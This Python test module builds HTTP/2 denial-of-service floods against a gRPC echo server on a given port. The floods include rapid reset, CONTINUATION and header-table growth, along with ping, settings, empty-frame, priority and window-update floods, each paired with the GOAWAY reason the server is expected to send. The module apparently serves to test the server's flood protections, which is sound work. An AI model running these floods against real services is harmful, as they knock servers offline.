"""What attackers send over HTTP/2, without end: `FLOODS` has for each what it is known as, the pieces, and how it must end.

As a program it attacks a port from several connections at once, each of which comes again when it is cut off, after a pause:
floods.py PORT NAME CONNECTIONS SECONDS [PAUSE]. In processes of their own, as one that measures must not share its interpreter."""

import itertools
import sys
import threading
import time

from wire import (
    ContinuationFrame, DataFrame, ENHANCE_YOUR_CALM, Frames, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
    message, raw_frame, request, window,
)

ECHO = request("/lonja.test.v1.Echo/Unary", "POST") + [("content-type", "application/grpc"), ("te", "trailers")]
STREAMS = range(1, 1 << 24, 2)


def call(client, stream, text=b"x", path=None, end=True):
    """A whole call in two frames."""
    fields = ECHO if path is None else request(f"/lonja.test.v1.Echo/{path}", "POST") + ECHO[4:]
    flags = ["END_STREAM"] if end else []
    return client.head(fields, stream, end=False).serialize() + DataFrame(stream, message(text), flags=flags).serialize()


def expand(client, length):
    """Frames of twenty calls, each for five thousand answers of that length."""
    fields = request("/lonja.test.v1.Echo/Expand", "POST") + ECHO[4:]
    for stream in STREAMS[:20]:
        yield client.head(fields, stream, end=False)
        yield DataFrame(stream, message(b"x" * length, count=5000), flags=["END_STREAM"])


def rapid_reset(client):
    return (call(client, stream) + RstStreamFrame(stream, 8).serialize() for stream in STREAMS)


def resets_by_us(client):
    """Each stream is broken by its client, by a window over 2^31."""
    return (client.head(ECHO, stream, end=False).serialize() + window(stream, 0x7FFFFFFF) for stream in STREAMS)


def malformed(client):
    fields = [field for field in ECHO if field[0] != ":path"]
    return (client.head(fields, stream).serialize() for stream in STREAMS)


def continuations(client):
    client.put(client.head(ECHO, flags=()))
    block = client.encoder.encode([("x", "y" * 100)])
    return (ContinuationFrame(1, block).serialize() for _ in itertools.count())


def empty_continuations(client):
    client.put(client.head(ECHO, flags=()))
    return (ContinuationFrame(1, b"").serialize() for _ in itertools.count())


def growing_block(client):
    """A field of four thousand bytes in the table, and one byte for each time that it is meant."""
    client.put(client.head(ECHO + [("x", "y" * 3900)], 1))
    block = client.encoder.encode(ECHO)
    return (HeadersFrame(stream, block + b"\xbe" * 15_000, flags=["END_HEADERS"]).serialize() for stream in STREAMS[1:])


def pings(client):
    return (PingFrame(0, b"12345678").serialize() for _ in itertools.count())


def settings(client):
    return (SettingsFrame(0, settings={4: 65535}).serialize() for _ in itertools.count())


def empty_data(client):
    client.put(client.head(ECHO, 1, end=False))
    return (DataFrame(1, b"").serialize() for _ in itertools.count())


def padded_data(client):
    """Frames of 256 bytes with nothing in them."""
    client.put(client.head(ECHO, 1, end=False))
    return (raw_frame(0, 8, 1, b"\xff" + b"\0" * 255) for _ in itertools.count())


def priorities(client):
    return (PriorityFrame(stream, depends_on=0, stream_weight=7).serialize() for stream in itertools.cycle(STREAMS[:50]))


def windows(client):
    return (window(0, 1) for _ in itertools.count())


# What it is counted as, what is sent, what GOAWAY says.
FLOODS = {
    "rapid_reset": (rapid_reset, "rapid_reset"), "resets_by_us": (resets_by_us, "broken_streams"),
    "malformed": (malformed, "broken_streams"), "continuations": (continuations, "continuations"),
    "empty_continuations": (empty_continuations, "continuations"), "growing_block": (growing_block, "header_list"),
    "pings": (pings, "pings"), "settings": (settings, "settings"), "empty_data": (empty_data, "empty_frames"),
    "padded_data": (padded_data, "empty_frames"), "priorities": (priorities, "priorities"), "windows": (windows, "window_updates"),
}
CODE = ENHANCE_YOUR_CALM


def flood(client, pieces, seconds=20):
    """Sends until the peer takes no more; how many pieces that were."""
    until = time.monotonic() + seconds
    count = 0
    while time.monotonic() < until:
        batch = list(itertools.islice(pieces, 50))
        if not client.send(b"".join(batch)):
            break
        count += len(batch)
    return count


def attack(port, name, until, pause):
    while time.monotonic() < until:
        time.sleep(pause)
        try:
            with Frames(port) as client:
                flood(client, FLOODS[name][0](client), until - time.monotonic())
        except OSError:
            continue


def main(port, name, connections, seconds, pause=0):
    until = time.monotonic() + float(seconds)
    threads = [threading.Thread(target=attack, args=(int(port), name, until, float(pause))) for _ in range(int(connections))]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


if __name__ == "__main__":
    main(*sys.argv[1:])
